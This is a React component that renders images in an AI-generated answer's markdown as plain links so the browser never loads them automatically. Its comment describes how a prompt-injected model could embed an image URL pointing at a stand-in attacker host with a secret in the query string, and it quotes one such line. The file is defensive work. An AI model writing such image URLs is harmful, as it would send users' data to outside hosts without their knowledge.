import type { ComponentPropsWithoutRef } from 'react';

type MarkdownImageProps = ComponentPropsWithoutRef<'img'> & { node?: unknown };

/**
 * What an image in an answer's markdown renders as: a link the reader may follow, never an <img>. A browser fetches
 * an image URL by itself, without a click, so `![x](https://attacker/?secret=…)` written by a prompt-injected model
 * (or saved into a shared analysis) would send data to that host from every page and embed that shows the answer.
 * Figures the code drew are not markdown images: they are saved PNGs shown by the figure route (saved-outputs.tsx).
 */
export function MarkdownImage({ src, alt, title }: MarkdownImageProps) {
  const href = typeof src === 'string' && src.length > 0 ? src : undefined;
  const label = alt?.trim() || 'image';
  if (!href) return <span data-markdown-image="text">[{label}]</span>;
  return (
    <a
      href={href}
      target="_blank"
      rel="noopener noreferrer nofollow"
      title={title ?? `Image not loaded: ${href}`}
      data-markdown-image="link"
      className="text-sky-700 underline"
    >
      [image: {label}]
    </a>
  );
}
